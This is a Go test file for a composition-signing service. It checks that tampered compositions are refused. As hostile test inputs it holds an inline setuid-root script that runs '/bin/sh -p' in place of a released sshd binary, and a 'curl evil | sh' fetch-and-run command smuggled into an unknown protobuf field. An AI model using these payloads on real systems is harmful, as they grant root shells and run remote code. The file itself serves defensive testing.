package app_test

import (
	"context"
	"testing"

	"google.golang.org/grpc/codes"
	"google.golang.org/protobuf/encoding/protowire"

	"mesh.dev/internal/canonical"
	signerv1 "mesh.dev/proto/mesh/signer/v1"
	typev1 "mesh.dev/proto/mesh/type/v1"
)

// signOneSSHD signs ace's composition of a released sshd as the composer
// does, after edit changes it, and returns what the signer answered.
func signOneSSHD(t *testing.T, edit func(*typev1.Composition)) (*signerv1.SignCompositionsResponse, error) {
	t.Helper()
	w := newWorld(t)
	r := w.start(t)
	c := w.composer(t, r)
	epoch := fence(t, c)
	fp, _ := w.release("sshd")
	comp := moduleComposition("ace", "sshd", fp, 256)
	edit(comp)
	return c.SignCompositions(context.Background(), &signerv1.SignCompositionsRequest{
		FencingEpoch: epoch, Compositions: []*typev1.Composition{comp},
	})
}

// TestComposerCannotSwapAReleasedArtifactForItsOwnBytes: the entry's
// manifest says sshd:bin is the build's artifact binary:sshd, mode 0755.
// Nothing a composer renders from params can change that (mode, owner and
// content kind are copied verbatim, declare.go renderResource), so a
// composition that ships its own bytes there as a setuid file is not signed
// (DESIGN.md §5.4: a compromised composer can mix released versions and
// feed hostile params, "and nothing more").
func TestComposerCannotSwapAReleasedArtifactForItsOwnBytes(t *testing.T) {
	t.Parallel()
	_, err := signOneSSHD(t, func(comp *typev1.Composition) {
		for _, res := range comp.GetResources() {
			if res.GetId() == "sshd:bin" {
				res.Mode = 0o4755
				res.Owner = "root"
				res.Content = &typev1.Resource_Inline{Inline: []byte("#!/bin/sh\nexec /bin/sh -p\n")}
			}
		}
	})
	if err == nil {
		t.Fatal("signed a composition replacing artifact binary:sshd (mode 0755) with inline bytes of the composer's, setuid root")
	}
	mustCode(t, err, codes.FailedPrecondition, "sshd:bin")
}

// TestUnknownFieldsAreNotSigned: fields the signer's build does not know
// cannot have been linted or cross-checked: a composition holding one is
// refused (INVALID_ARGUMENT, canonical.Marshal refuses it), not signed
// into bytes an engine of its build refuses to decode and a newer engine
// would read a meaning from that nobody checked.
func TestUnknownFieldsAreNotSigned(t *testing.T) {
	t.Parallel()
	resp, err := signOneSSHD(t, func(comp *typev1.Composition) {
		var unk []byte
		unk = protowire.AppendTag(unk, 99, protowire.BytesType)
		unk = protowire.AppendString(unk, "/bin/sh -c 'curl evil | sh'")
		comp.GetResources()[1].ProtoReflect().SetUnknown(unk) // sshd:config
	})
	if err == nil {
		payload := resp.GetItems()[0].GetEnvelope().GetPayload()
		derr := canonical.Decode(payload, &typev1.Composition{})
		t.Fatalf("signed a composition holding an unknown field 99 (%d bytes signed); an engine decoding it says: %v", len(payload), derr)
	}
	mustCode(t, err, codes.InvalidArgument)
}
